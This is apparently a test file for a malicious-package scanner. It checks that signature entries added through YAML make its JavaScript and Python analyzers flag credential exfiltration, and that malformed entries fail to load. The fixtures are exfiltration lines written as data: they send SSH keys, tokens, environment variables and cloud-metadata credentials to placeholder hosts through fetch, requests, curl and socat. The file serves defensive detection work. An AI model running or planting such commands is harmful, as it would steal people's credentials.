// Library models are data: an entry added to signatures/ (here through a --signatures
// directory) takes effect in both front-ends with no code change, one test per entry kind;
// an entry no front-end can use is a load error naming file and line.
import { describe, expect, it } from "vitest";
import { analyzeNpmPackage } from "../../src/analyzers/js/index.js";
import { analyzePythonPackage } from "../../src/analyzers/python/index.js";
import { ConfigurationError } from "../../src/core/errors.js";
import { evaluateFacts } from "../../src/rules/evaluate.js";
import { loadSignatures, type Signatures } from "../../src/rules/signatures.js";
import { makePackage } from "../analyzers/js/helpers.js";
import { dedent } from "../analyzers/python/helpers.js";
import { base, extraDir, jsFindings, loadError, pkg, pyFindings, sinksYaml, sourcesYaml } from "./models-helpers.js";

describe("an added entry takes effect", () => {
  it("sources.credentialFiles: a new credential file, in JS and Python", async () => {
    const sigs = loadSignatures([extraDir({ "sources.yaml": sourcesYaml('[{ kind: registry-token, pattern: "^~/\\\\.zorblat/token$", note: "zorblat token" }]') })]);
    const js = 'const fs = require("fs"); const os = require("os");\nfetch("https://c.example.invalid/", { method: "POST", body: fs.readFileSync(os.homedir() + "/.zorblat/token") });\n';
    const py = 'import os, requests\nrequests.post("https://c.example.invalid/", data=open(os.path.expanduser("~/.zorblat/token")).read())\n';
    expect(await jsFindings(js, base)).not.toContain("credential-exfiltration critical 2");
    expect(await jsFindings(js, sigs)).toContain("credential-exfiltration critical 2");
    expect(await pyFindings(py, base)).not.toContain("credential-exfiltration critical 2");
    expect(await pyFindings(py, sigs)).toContain("credential-exfiltration critical 2");
  });

  it("sources.envSecretNames: a new secret variable, in JS and Python", async () => {
    const sigs = loadSignatures([extraDir({ "sources.yaml": sourcesYaml("[]", '["^ZORBLAT$"]') })]);
    const js = 'fetch("https://c.example.invalid/?v=" + process.env.ZORBLAT);\n';
    const py = 'import os, requests\nrequests.get("https://c.example.invalid/", params={"v": os.environ["ZORBLAT"]})\n';
    expect(await jsFindings(js, base)).toEqual([]);
    expect(await jsFindings(js, sigs)).toContain("credential-exfiltration critical 1");
    expect(await pyFindings(py, base)).toEqual([]);
    expect(await pyFindings(py, sigs)).toContain("credential-exfiltration critical 2");
  });

  it("sinks.js.modules: a new client module", async () => {
    const sigs = loadSignatures([extraDir({ "sinks.yaml": sinksYaml({ js: 'js: { modules: { zorblat-net: { "*": http } }, globals: {} }' }) })]);
    const js = 'const z = require("zorblat-net");\nz.post("https://c.example.invalid/", JSON.stringify(process.env));\n';
    expect(await jsFindings(js, base)).toEqual([]);
    expect(await jsFindings(js, sigs)).toContain("credential-exfiltration critical 2");
  });

  it("sinks.python.modules with returns: client: data sent through the client's methods", async () => {
    const sigs = loadSignatures([extraDir({ "sinks.yaml": sinksYaml({ python: "python: { modules: { zorblat: { Messenger: { channel: http, returns: client } } }, builtins: {} }" }) })]);
    const py = 'import os, zorblat\nm = zorblat.Messenger("https://c.example.invalid/")\nm.send_message(dict(os.environ))\n';
    expect(await pyFindings(py, base)).toEqual([]);
    expect((await pyFindings(py, sigs)).some((f) => f.startsWith("credential-exfiltration critical"))).toBe(true);
    // The same member as a plain send: the constructor call is the sink, its methods are not.
    const plain = loadSignatures([extraDir({ "sinks.yaml": sinksYaml({ python: "python: { modules: { zorblat: { Messenger: http } }, builtins: {} }" }) })]);
    expect(await pyFindings(py, plain)).toEqual([]);
  });

  it("sinks.shellPrograms: a new sending program, in JS and Python", async () => {
    const sigs = loadSignatures([extraDir({ "sinks.yaml": sinksYaml({ shell: "shellPrograms: { zorblat-send: http }" }) })]);
    const js = 'require("child_process").exec("zorblat-send c.example.invalid < ~/.ssh/id_rsa");\n';
    const py = 'import os\nos.system("zorblat-send c.example.invalid < ~/.ssh/id_rsa")\n';
    expect(await jsFindings(js, base)).not.toContain("credential-exfiltration critical 1");
    expect(await jsFindings(js, sigs)).toContain("credential-exfiltration critical 1");
    expect(await pyFindings(py, base)).not.toContain("credential-exfiltration critical 2");
    expect(await pyFindings(py, sigs)).toContain("credential-exfiltration critical 2");
  });

  it("indicators.exfilServices: a new receiving service, in JS and Python", async () => {
    const sigs = loadSignatures([extraDir({ "indicators.yaml": 'exfilServices: [{ name: Zorblat bin, pattern: "zorblat\\\\.example\\\\.invalid", category: request-bin }]\nknownBad: []\n' })]);
    const js = 'fetch("https://zorblat.example.invalid/hook", { method: "POST", body: "hello" });\n';
    const py = 'import requests\nrequests.post("https://zorblat.example.invalid/hook", data="hello")\n';
    expect(await jsFindings(js, base)).toEqual([]);
    expect(await jsFindings(js, sigs)).toEqual(["exfil-service-destination medium 1"]);
    expect(await pyFindings(py, base)).toEqual([]);
    expect(await pyFindings(py, sigs)).toEqual(["exfil-service-destination medium 2"]);
  });
});

/** The findings' messages (they name the destination). */
async function jsMessages(code: string, signatures: Signatures): Promise<string[]> {
  const facts = await analyzeNpmPackage(makePackage({ "index.js": code }), signatures);
  return evaluateFacts(facts, pkg, signatures).map((f) => `${f.ruleId} ${f.severity}: ${f.message}`);
}
async function pyMessages(code: string, signatures: Signatures): Promise<string[]> {
  const files = new Map([
    ["setup.py", Buffer.from('from setuptools import setup\nsetup(name="pkg", version="1.0.0", packages=["pkg"])\n')],
    ["pkg/__init__.py", Buffer.from(dedent(code))],
  ]);
  const facts = await analyzePythonPackage({ input: "test", files, bytes: 0, errors: [] }, signatures);
  return evaluateFacts(facts, { ...pkg, ecosystem: "pypi" }, signatures).map((f) => `${f.ruleId} ${f.severity}: ${f.message}`);
}

describe("an added entry takes effect (kinds beyond files, variables and modules)", () => {
  it("sources.apiSources.python: a new credential-reading call", async () => {
    const sigs = loadSignatures([extraDir({ "sources.yaml": sourcesYaml("[]", "[]", "apiSources: { python: [{ call: zorblat.get_secret, kind: cloud-credentials, note: reads the Zorblat secret }] }\n") })]);
    const py = 'import zorblat, requests\nrequests.post("https://c.example.invalid/", data=zorblat.get_secret())\n';
    expect(await pyFindings(py, base)).toEqual([]);
    expect(await pyFindings(py, sigs)).toContain("credential-exfiltration critical 2");
  });

  it("sources.apiSources.python pattern: a new call shape, its name as detail", async () => {
    const sigs = loadSignatures([extraDir({ "sources.yaml": sourcesYaml("[]", "[]", 'apiSources: { python: [{ pattern: "^zorblat\\\\..*\\\\.fetch_token$", kind: cloud-credentials, note: gets a Zorblat token }] }\n') })]);
    const py = 'import zorblat, requests\nrequests.post("https://c.example.invalid/", data=zorblat.auth.Client().fetch_token())\n';
    expect(await pyFindings(py, base)).toEqual([]);
    expect(await pyFindings(py, sigs)).toContain("credential-exfiltration critical 2");
  });

  it("sources.credentialConsumers.python: a secret-named parameter handed to a new consuming library is a credential", async () => {
    const sigs = loadSignatures([extraDir({ "sources.yaml": sourcesYaml("[]", "[]", "credentialConsumers: { python: [zorblat] }\n") })]);
    const py = 'import requests, zorblat\ndef login(host, password):\n    zorblat.connect(host, password=password)\n    requests.post("https://c.example.invalid/", data=password)\n';
    expect(await pyFindings(py, base)).toEqual([]);
    expect(await pyFindings(py, sigs)).toEqual(["credential-exfiltration critical 4"]);
  });

  it("sinks.python.modules: a new sending function", async () => {
    const sigs = loadSignatures([extraDir({ "sinks.yaml": sinksYaml({ python: "python: { modules: { zorblat: { upload: http } }, builtins: {} }" }) })]);
    const py = 'import os, zorblat\nzorblat.upload("https://c.example.invalid/", dict(os.environ))\n';
    expect(await pyFindings(py, base)).toEqual([]);
    expect(await pyFindings(py, sigs)).toContain("credential-exfiltration critical 2");
  });

  it("sinks.js.globals: a new sending global", async () => {
    const sigs = loadSignatures([extraDir({ "sinks.yaml": sinksYaml({ js: "js: { modules: {}, globals: { zorblatSend: http } }" }) })]);
    const js = 'zorblatSend("https://c.example.invalid/", JSON.stringify(process.env));\n';
    expect(await jsFindings(js, base)).toEqual([]);
    expect(await jsFindings(js, sigs)).toContain("credential-exfiltration critical 1");
  });

  it("indicators.issuers: a token authenticates to its issuer only, in JS and Python", async () => {
    const sigs = loadSignatures([extraDir({ "indicators.yaml": 'exfilServices: []\nknownBad: []\nissuers: [{ name: Zorblat, kinds: [env-secret], detail: "^ZORBLAT_TOKEN$", hosts: ["api\\\\.zorblat\\\\.example"] }]\n' })]);
    const send = (host: string) => ({
      js: `fetch("https://${host}/v1/items", { headers: { Authorization: "Bearer " + process.env.ZORBLAT_TOKEN } });\n`,
      py: `import os, requests\nrequests.get("https://${host}/v1/items", headers={"Authorization": "Bearer " + os.environ["ZORBLAT_TOKEN"]})\n`,
    });
    // With no issuer known, a secret variable in the credential slot authenticates to whatever server it is sent to.
    const elsewhere = send("collect.example.invalid");
    expect(await jsFindings(elsewhere.js, base)).toEqual([]);
    expect(await pyFindings(elsewhere.py, base)).toEqual([]);
    // Once Zorblat is its issuer, only Zorblat's API host is authentication.
    expect(await jsFindings(elsewhere.js, sigs)).toContain("credential-exfiltration critical 1");
    expect(await pyFindings(elsewhere.py, sigs)).toContain("credential-exfiltration critical 2");
    const own = send("api.zorblat.example");
    expect(await jsFindings(own.js, sigs)).toEqual([]);
    expect(await pyFindings(own.py, sigs)).toEqual([]);
  });

  it("decoders.python: a new decoding call is folded (its output is a destination)", async () => {
    const sigs = loadSignatures([extraDir({ "decoders.yaml": "python: { zorblat.unpack: base64 }\n" })]);
    const encoded = Buffer.from("https://webhook.site/zorblat").toString("base64");
    const py = `import zorblat, requests\nrequests.post(zorblat.unpack("${encoded}"), data="hello")\n`;
    expect(await pyFindings(py, base)).toEqual([]);
    expect(await pyFindings(py, sigs)).toEqual(["exfil-service-destination medium 2"]);
  });

  it("commands.programs: a program's destination, in JS and Python", async () => {
    const sinks = sinksYaml({ shell: "shellPrograms: { zorblat-send: http }" });
    const without = loadSignatures([extraDir({ "sinks.yaml": sinks })]);
    const withDestination = loadSignatures([extraDir({ "sinks.yaml": sinks, "commands.yaml": "programs: { zorblat-send: { destination: { host: drop.zorblat.example } } }\n" })]);
    const js = 'require("child_process").exec("zorblat-send now < ~/.ssh/id_rsa");\n';
    const py = 'import os\nos.system("zorblat-send now < ~/.ssh/id_rsa")\n';
    expect((await jsMessages(js, without)).join("\n")).not.toContain("drop.zorblat.example");
    expect((await jsMessages(js, withDestination)).join("\n")).toContain("to drop.zorblat.example");
    expect((await pyMessages(py, without)).join("\n")).not.toContain("drop.zorblat.example");
    expect((await pyMessages(py, withDestination)).join("\n")).toContain("to drop.zorblat.example");
  });

  it("commands.programs valueFlags: a flag's value is not the destination", async () => {
    const sinks = sinksYaml({ shell: "shellPrograms: { zorblat-send: http }" });
    const without = loadSignatures([extraDir({ "sinks.yaml": sinks })]);
    const withFlags = loadSignatures([extraDir({ "sinks.yaml": sinks, "commands.yaml": "programs: { zorblat-send: { valueFlags: [--channel] } }\n" })]);
    const js = 'require("child_process").exec("zorblat-send --channel c1.example.invalid drop.zorblat.example < ~/.ssh/id_rsa");\n';
    expect((await jsMessages(js, without)).join("\n")).toContain("to c1.example.invalid");
    expect((await jsMessages(js, withFlags)).join("\n")).toContain("to drop.zorblat.example");
  });

  it("commands.credentialCommands: a command that prints a credential, in JS and Python", async () => {
    const sigs = loadSignatures([extraDir({ "commands.yaml": "credentialCommands: [{ program: zorblat, words: [auth, token], kind: registry-token, note: prints the Zorblat token }]\n" })]);
    const js = 'require("child_process").exec("zorblat auth token | curl -d @- https://c.example.invalid/");\n';
    const py = 'import os\nos.system("zorblat auth token | curl -d @- https://c.example.invalid/")\n';
    expect(await jsFindings(js, base)).not.toContain("credential-exfiltration critical 1");
    expect(await jsFindings(js, sigs)).toContain("credential-exfiltration critical 1");
    expect(await pyFindings(py, base)).not.toContain("credential-exfiltration critical 2");
    expect(await pyFindings(py, sigs)).toContain("credential-exfiltration critical 2");
  });
});

describe("an added entry takes effect (cloud metadata services)", () => {
  it("sources.cloudMetadata hosts: a new metadata service's answer is a credential, in JS, Python and shell commands", async () => {
    const sigs = loadSignatures([extraDir({ "sources.yaml": sourcesYaml("[]", "[]", "cloudMetadata: { hosts: ['meta\\.zorblat\\.example'] }\n") })]);
    const js = 'const http = require("http");\nhttp.get("http://meta.zorblat.example/latest/meta-data/iam/security-credentials/r", (res) => {\n  res.on("data", (d) => { fetch("https://c.example.invalid/", { method: "POST", body: d }); });\n});\n';
    const py = 'import requests\nkeys = requests.get("http://meta.zorblat.example/latest/meta-data/iam/security-credentials/r").text\nrequests.post("https://c.example.invalid/", data=keys)\n';
    const shell = 'require("child_process").exec("curl -s http://meta.zorblat.example/latest/ | curl -d @- https://c.example.invalid/");\n';
    const critical = (findings: string[]) => findings.some((f) => f.startsWith("credential-exfiltration critical"));
    expect(critical(await jsFindings(js, base))).toBe(false);
    expect(critical(await jsFindings(js, sigs))).toBe(true);
    expect(critical(await pyFindings(py, base))).toBe(false);
    expect(critical(await pyFindings(py, sigs))).toBe(true);
    expect(critical(await jsFindings(shell, base))).toBe(false);
    expect(critical(await jsFindings(shell, sigs))).toBe(true);
  });

  it("sources.cloudMetadata credentialPaths: a new path whose answer is a credential (Python reading)", async () => {
    const sigs = loadSignatures([extraDir({ "sources.yaml": sourcesYaml("[]", "[]", "cloudMetadata: { credentialPaths: ['/zorblat-keys$'] }\n") })]);
    const py = 'import requests\nkeys = requests.get("http://169.254.169.254/zorblat-keys").text\nrequests.post("https://c.example.invalid/", data=keys)\n';
    const critical = (findings: string[]) => findings.some((f) => f.startsWith("credential-exfiltration critical"));
    expect(critical(await pyFindings(py, base))).toBe(false);
    expect(critical(await pyFindings(py, sigs))).toBe(true);
  });
});

describe("an added entry takes effect (command runners)", () => {
  it("commands.runners.python: a new call that runs a command line", async () => {
    const sigs = loadSignatures([extraDir({ "commands.yaml": "runners: { python: [zorblat.run_line] }\n" })]);
    const py = 'import zorblat\nzorblat.run_line("curl -F k=@$HOME/.ssh/id_rsa https://c.example.invalid/")\n';
    expect(await pyFindings(py, base)).toEqual([]);
    expect(await pyFindings(py, sigs)).toContain("credential-exfiltration critical 2");
  });
});

describe("an entry no front-end can use", () => {

  it("returns: on a JS module is an error at its line", () => {
    const error = loadError({ "sinks.yaml": sinksYaml({ js: 'js:\n  modules:\n    zorblat-net:\n      Messenger: { channel: http, returns: client }\n  globals: {}' }) });
    expect(error).toBeInstanceOf(ConfigurationError);
    expect(error.message).toMatch(/sinks\.yaml:4: js\.modules\.zorblat-net\.Messenger: js sinks take a channel only/);
  });

  it("a program entry with no field is an error at its line", () => {
    const error = loadError({ "commands.yaml": "programs:\n  curl: { valueFlags: [-d] }\n  zorblat: {}\n" });
    expect(error.message).toMatch(/commands\.yaml:3: programs\.zorblat: a program entry with no field means nothing/);
  });

  it("a credential command with neither program nor line is an error at its line", () => {
    const error = loadError({ "commands.yaml": "credentialCommands:\n  - { words: [token], kind: registry-token, note: x }\n" });
    expect(error.message).toMatch(/commands\.yaml:2: credentialCommands\.0: a credential command needs a program or a line pattern/);
  });

  it("a credential command for one front-end (only:) is an error at its line: both read every entry", () => {
    const error = loadError({ "commands.yaml": "credentialCommands:\n  - { program: gh, words: [auth, token], kind: git-credentials, note: x }\n  - { only: js, program: zorblat, kind: registry-token, note: x }\n" });
    expect(error.message).toMatch(/commands\.yaml:3: credentialCommands\.1\.only: both front-ends read every credential command/);
  });

  it("an unknown destination style or decoder algorithm is an error at its line", () => {
    expect(loadError({ "commands.yaml": "programs:\n  zorblat:\n    destination: carrier-pigeon\n" }).message).toMatch(/commands\.yaml:3: programs\.zorblat\.destination/);
    expect(loadError({ "decoders.yaml": "python:\n  zorblat.unpack: rot47\n" }).message).toMatch(/decoders\.yaml:2: python\.zorblat\.unpack/);
  });

  it("decoders for JS (no front-end reads them) and an API source with both call and pattern are errors", () => {
    expect(loadError({ "decoders.yaml": "python: {}\njs: { atob: base64 }\n" }).message).toMatch(/decoders\.yaml:\d+: .*js/);
    const error = loadError({ "sources.yaml": sourcesYaml("[]", "[]", 'apiSources:\n  python:\n    - { call: a.b, pattern: "^a", kind: keychain, note: x }\n') });
    expect(error.message).toMatch(/sources\.yaml:6: apiSources\.python\.0: an API source has either call/);
  });

  it("python.builtins is an error at its line", () => {
    const error = loadError({ "sinks.yaml": sinksYaml({ python: "python:\n  modules: {}\n  builtins: { exec: shell }" }) });
    expect(error.message).toMatch(/sinks\.yaml:4: python\.builtins: no front-end reads python\.builtins/);
  });
});

describe("the front-ends agree", () => {
  it("a socat line sending a key is the same finding in JS and Python (one shell-command reading)", async () => {
    const js = 'exports.backup = function () {\n  require("child_process").exec("cat ~/.ssh/id_rsa | socat - TCP:203.0.113.7:9000");\n};\n';
    const py = 'import os\ndef backup():\n    os.system("cat ~/.ssh/id_rsa | socat - TCP:203.0.113.7:9000")\n';
    expect(await jsFindings(js, base)).toEqual(["credential-exfiltration critical 2"]);
    expect(await pyFindings(py, base)).toEqual(["credential-exfiltration critical 3"]);
  });
});
